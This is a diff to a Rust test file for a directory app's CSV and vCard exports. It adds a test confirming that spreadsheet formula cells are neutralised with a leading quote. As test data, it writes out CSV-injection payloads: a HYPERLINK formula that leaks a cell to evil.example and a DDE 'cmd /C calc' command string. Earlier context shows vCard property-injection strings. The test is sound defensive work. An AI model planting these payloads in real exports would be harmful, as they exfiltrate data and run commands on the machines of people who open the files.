@@ -50,7 +50,7 @@ async fn approval_controls_what_other_countries_see() {
         let (_, l) = s.api(Some(&other), Method::GET, "/api/v1/directory?axis=4", None).await;
         assert_eq!(l["total"], 0);
         let csv = s.http.get(format!("{}/api/v1/directory/export.csv", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
-        assert!(csv.starts_with("country,name") && csv.contains("\"Laura Ficticia Mora de Solís\"") && csv.contains("\"+506 2222 0000\""), "{csv}");
+        assert!(csv.starts_with("country,name") && csv.contains("\"Laura Ficticia Mora de Solís\"") && csv.contains("\"'+506 2222 0000\""), "{csv}");
         let res = s.http.get(format!("{}/api/v1/directory/export.csv?country=cr&axis=&language=&q=", s.base)).bearer_auth(&other).send().await.unwrap();
         assert_eq!(res.status(), StatusCode::OK, "empty filters mean no filter");
         let vcf = s.http.get(format!("{}/api/v1/directory/export.vcf", s.base)).bearer_auth(&other).send().await.unwrap().text().await.unwrap();
@@ -196,6 +196,56 @@ async fn the_vcard_export_lets_no_field_inject_a_property() {
         assert!(lines.contains(&"FN:Ana Ficticia\\nEMAIL:name@evil.example"), "{vcf:?}");
         assert!(lines.contains(&"TITLE:Jefa\\nEMAIL\\;TYPE=INTERNET:robo@evil.example\\nTEL:+1 555 0100\\nURL:https://evil.example"), "{vcf:?}");
         assert!(lines.contains(&"NOTE:rutas\\nEND:VCARD\\nBEGIN:VCARD\\nFN:Falso 08:00\\n\\nPHOTO:x"), "{vcf:?}");
+    })
+    .await;
+}
+
+/// Cells a spreadsheet would run as formulas (CSV injection) are exported as text: a leading
+/// `'`, inside a properly quoted cell.
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas() {
+    each_engine(|s| async move {
+        let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Ver, \"\"ficha\"\"\")";
+        let mut data = entry(hyperlink);
+        data["position"] = json!("+cmd|' /C calc'!A0");
+        data["topics"] = json!("-2+3; rutas");
+        data["hours"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+        data["email"] = json!("x@example.cr");
+        approved_entry(&s, data).await;
+        let other = s.token("officer.gt").await;
+        let text = export(&s, &other, "export.csv").await;
+        // The neutralised cell appears quoted, with its quotes doubled.
+        let quoted = format!("\"'{}\"", hyperlink.replace('"', "\"\""));
+        assert!(text.contains(&quoted), "{quoted} in {text}");
+        let mut rows = csv::Reader::from_reader(text.as_bytes());
+        let headers = rows.headers().unwrap().clone();
+        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+        let rows: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
+        for r in &rows {
+            assert_eq!(r.len(), headers.len());
+            for cell in r {
+                assert!(
+                    !cell
+                        .trim_start()
+                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "formula cell {cell:?}"
+                );
+            }
+        }
+        let ours = rows
+            .iter()
+            .find(|r| r[col("name")].contains("HYPERLINK"))
+            .expect("the entry is exported");
+        assert_eq!(&ours[col("name")], format!("'{hyperlink}"));
+        assert_eq!(&ours[col("position")], "'+cmd|' /C calc'!A0");
+        assert_eq!(&ours[col("topics")], "'-2+3; rutas");
+        assert_eq!(&ours[col("hours")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+        assert_eq!(&ours[col("phone")], "'+506 2222 0000");
+        assert_eq!(
+            &ours[col("email")],
+            "x@example.cr",
+            "other cells are unchanged"
+        );
     })
     .await;
 }
